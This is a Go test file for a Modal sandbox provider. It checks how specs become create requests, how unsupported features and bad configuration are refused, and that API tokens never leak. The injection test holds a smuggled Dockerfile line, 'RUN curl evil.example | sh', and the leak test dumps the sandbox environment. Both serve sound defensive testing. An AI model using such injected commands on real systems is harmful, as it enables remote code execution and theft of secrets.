package modal_test

import (
	"errors"
	"fmt"
	"log/slog"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/berth-sh/berth/internal/syncbuf"

	pb "github.com/modal-labs/modal-client/go/proto/modal_proto"

	"github.com/berth-sh/berth/providers/modal"
	"github.com/berth-sh/berth/providers/modal/modaltest"
	"github.com/berth-sh/berth/sandbox"
)

// The Spec reaches Modal as the SDK's create request: CPUs and memory as
// requests (limits only when asked), the TTL rounded up to whole seconds,
// "none" as a blocked network, labels as tags, env and workdir as given.
func TestCreateRequest(t *testing.T) {
	srv := serve(t)
	p := sandbox.NewProvider("modal", openDriver(t, srv, nil))
	defer p.Close()
	ctx := t.Context()
	for _, c := range []struct {
		name         string
		spec         sandbox.Spec
		milli, mem   uint32
		milliMax     uint32
		memMax       uint32
		timeout      uint32
		networkClass pb.NetworkAccess_NetworkAccessType
	}{
		{
			name:  "requests",
			spec:  sandbox.Spec{Resources: sandbox.Resources{CPUs: 1.5, MemoryMB: 2048}, TTL: 90*time.Second + time.Millisecond},
			milli: 1500, mem: 2048, timeout: 91, networkClass: pb.NetworkAccess_BLOCKED,
		},
		{
			name:  "limits, public network",
			spec:  sandbox.Spec{Resources: sandbox.Resources{CPUs: 2, MemoryMB: 512, Limits: true}, Network: sandbox.Network{Mode: sandbox.NetworkPublic}},
			milli: 2000, mem: 512, milliMax: 2000, memMax: 512, timeout: uint32(sandbox.DefaultTTL / time.Second), networkClass: pb.NetworkAccess_OPEN,
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			spec := c.spec
			spec.Image = testImage
			spec.WorkDir = "/work"
			spec.Env = map[string]string{"GREETING": "hello"}
			spec.Labels = map[string]string{"job": "j1", "trial": "t-7"}
			sb, err := p.Create(ctx, spec)
			if err != nil {
				t.Fatal(err)
			}
			defer sb.Delete(ctx)
			defer sb.Close()
			st, ok := srv.Sandbox(sb.ID())
			if !ok {
				t.Fatalf("server has no sandbox %s", sb.ID())
			}
			def, r := st.Definition, st.Definition.GetResources()
			if r.GetMilliCpu() != c.milli || r.GetMemoryMb() != c.mem || r.GetMilliCpuMax() != c.milliMax || r.GetMemoryMbMax() != c.memMax {
				t.Errorf("resources = cpu %d/%d mem %d/%d; want %d/%d %d/%d", r.GetMilliCpu(), r.GetMilliCpuMax(), r.GetMemoryMb(), r.GetMemoryMbMax(), c.milli, c.milliMax, c.mem, c.memMax)
			}
			if def.GetTimeoutSecs() != c.timeout {
				t.Errorf("timeout %ds, want %ds", def.GetTimeoutSecs(), c.timeout)
			}
			if got := def.GetNetworkAccess().GetNetworkAccessType(); got != c.networkClass {
				t.Errorf("network %v, want %v", got, c.networkClass)
			}
			if def.GetWorkdir() != "/work" || st.Env["GREETING"] != "hello" || st.Tags["job"] != "j1" || st.Tags["trial"] != "t-7" || len(st.Tags) != 2 {
				t.Errorf("workdir %q env %v tags %v", def.GetWorkdir(), st.Env, st.Tags)
			}
			// Commands start in the workdir and see the env.
			res, err := sb.Run(ctx, sandbox.Command{Args: []string{"sh", "-c", `printf '%s %s' "$GREETING" "$(basename "$PWD")"`}})
			if err != nil || string(res.Stdout) != "hello work" {
				t.Errorf("command saw %q (%v), want %q", res.Stdout, err, "hello work")
			}
		})
	}
	// Sandboxes live in one app; the image was built once for both.
	if ims := srv.Images(); len(ims) != 1 || ims[0].Ref != testImage || ims[0].Dockerfile[0] != "FROM "+testImage {
		t.Errorf("images asked for: %+v", ims)
	}
}

// An image reference is pasted after FROM in a Dockerfile: one that would add
// a line is refused before anything reaches Modal.
func TestImageRefInjection(t *testing.T) {
	srv := serve(t)
	p := sandbox.NewProvider("modal", openDriver(t, srv, nil))
	defer p.Close()
	for _, ref := range []string{"alpine\nRUN curl evil.example | sh", "alpine RUN id", "alpine\r", strings.Repeat("a", 600)} {
		_, err := p.Create(t.Context(), sandbox.Spec{Image: ref})
		if !errors.Is(err, sandbox.ErrInvalidArgument) {
			t.Errorf("image %q: %v; want InvalidArgument", ref, err)
		}
	}
	if ims := srv.Images(); len(ims) != 0 {
		t.Errorf("images reached the server: %+v", ims)
	}
}

// What the SDK cannot do is NotSupported and says why, before any sandbox
// is made for it.
func TestNotSupported(t *testing.T) {
	srv := serve(t)
	p := sandbox.NewProvider("modal", openDriver(t, srv, nil))
	defer p.Close()
	ctx := t.Context()
	_, err := p.Create(ctx, sandbox.Spec{Image: testImage, User: "agent"})
	if !errors.Is(err, sandbox.ErrNotSupported) {
		t.Errorf("create as another user: %v", err)
	}
	if n := len(srv.Calls("SandboxCreateV2")); n != 0 {
		t.Errorf("%d creates reached the server for a refused spec", n)
	}
	sb, err := p.Create(ctx, sandbox.Spec{Image: testImage})
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Delete(ctx)
	defer sb.Close()
	if err := sb.SetTimeout(ctx, time.Minute); !errors.Is(err, sandbox.ErrNotSupported) || !strings.Contains(err.Error(), "timeout") {
		t.Errorf("set timeout: %v", err)
	}
	proc, err := sb.Exec(ctx, sandbox.Command{Args: []string{"true"}})
	if err != nil {
		t.Fatal(err)
	}
	if err := proc.Signal(ctx, sandbox.SIGKILL); !errors.Is(err, sandbox.ErrNotSupported) {
		t.Errorf("signal: %v", err)
	}
	if code, err := proc.Wait(ctx); code != 0 || err != nil {
		t.Errorf("wait = %d, %v", code, err)
	}
	if _, err := sb.Run(ctx, sandbox.Command{Args: []string{"id"}, User: "nobody"}); !errors.Is(err, sandbox.ErrNotSupported) {
		t.Errorf("exec as another user: %v", err)
	}
}

// A wrong token is Unauthenticated; an unknown workspace environment is
// NotFound; a caller environment that disagrees with the process on what
// the SDK reads from the process is refused, naming the variable.
func TestConfigErrors(t *testing.T) {
	srv := serve(t)
	ctx := t.Context()
	bad := openDriver(t, srv, func(o *modal.Options) { o.TokenSecret = "as-wrong" })
	_, err := sandbox.NewProvider("modal", bad).Create(ctx, sandbox.Spec{Image: testImage})
	bad.Close()
	if !errors.Is(err, sandbox.ErrUnauthenticated) {
		t.Errorf("wrong token: %v", err)
	}
	env := openDriver(t, srv, func(o *modal.Options) { o.Environment = "staging" })
	_, err = sandbox.NewProvider("modal", env).Create(ctx, sandbox.Spec{Image: testImage})
	env.Close()
	if !errors.Is(err, sandbox.ErrNotFound) || !strings.Contains(err.Error(), "staging") {
		t.Errorf("unknown environment: %v", err)
	}
	const other = "http://127.0.0.1:1"
	_, err = modal.New(modal.Options{TokenID: "a", TokenSecret: "b", Getenv: func(k string) string {
		if k == "MODAL_SERVER_URL" {
			return other
		}
		return os.Getenv(k)
	}})
	if !errors.Is(err, sandbox.ErrInvalidArgument) || !strings.Contains(err.Error(), "MODAL_SERVER_URL") || strings.Contains(err.Error(), other) {
		t.Errorf("disagreeing MODAL_SERVER_URL: %v", err)
	}
	_, err = modal.New(modal.Options{TokenID: "a", Getenv: os.Getenv})
	if !errors.Is(err, sandbox.ErrUnauthenticated) {
		t.Errorf("half a token pair: %v", err)
	}
}

// The token pair goes to the SDK and nowhere else: not into debug logs,
// errors (a rejected token included), tags, the sandbox's environment or
// anything a command can see.
func TestNoSecretLeaks(t *testing.T) {
	const id, secret = "ak-LEAKCHECKid-93f1", "as-LEAKCHECKsecret-7be2"
	srv := modaltest.New(t, modaltest.Options{TokenID: id, TokenSecret: secret})
	serveAt(t, srv)
	var logs syncbuf.Buffer
	logger := slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	var seen []string
	note := func(v ...any) {
		for _, x := range v {
			seen = append(seen, fmt.Sprintf("%v %+v %#v", x, x, x))
		}
	}

	d := openDriver(t, srv, func(o *modal.Options) { o.TokenID, o.TokenSecret, o.Logger = id, secret, logger })
	p := sandbox.NewProvider("modal", d, sandbox.WithLogger(logger))
	ctx := t.Context()
	sb, err := p.Create(ctx, sandbox.Spec{Image: testImage, Labels: map[string]string{"job": "leak"}})
	if err != nil {
		t.Fatal(err)
	}
	res, err := sb.Run(ctx, sandbox.Command{Args: []string{"sh", "-c", "env; cat /proc/self/environ; echo oops >&2; exit 3"}})
	note(res.Stdout, res.Stderr, err)
	_, err = sb.ReadFile(ctx, "/no/such/file")
	note(err)
	infos, err := p.List(ctx, map[string]string{"job": "leak"})
	note(infos, err)
	st, _ := srv.Sandbox(sb.ID())
	note(st.Tags, st.Env, st.Definition)
	note(sb.Delete(ctx), sb.Delete(ctx), sb.Close())
	_, err = p.Connect(ctx, sb.ID())
	note(err)
	note(p.Close())

	// Rejected: the server's answer and the SDK's must not echo either half.
	wrong := openDriver(t, srv, func(o *modal.Options) { o.TokenID, o.TokenSecret, o.Logger = id, secret+"x", logger })
	_, err = sandbox.NewProvider("modal", wrong, sandbox.WithLogger(logger)).Create(ctx, sandbox.Spec{Image: testImage})
	if !errors.Is(err, sandbox.ErrUnauthenticated) {
		t.Errorf("wrong secret: %v", err)
	}
	note(err, wrong.Close())
	note(logs.String())

	if !strings.Contains(logs.String(), "level=DEBUG") {
		t.Fatal("no debug logs were captured; the check would prove nothing")
	}
	for _, s := range seen {
		for _, tok := range []string{id, secret, "LEAKCHECK"} {
			if strings.Contains(s, tok) {
				t.Errorf("token %.8s... leaked into: %.300s", tok, s)
			}
		}
	}
}
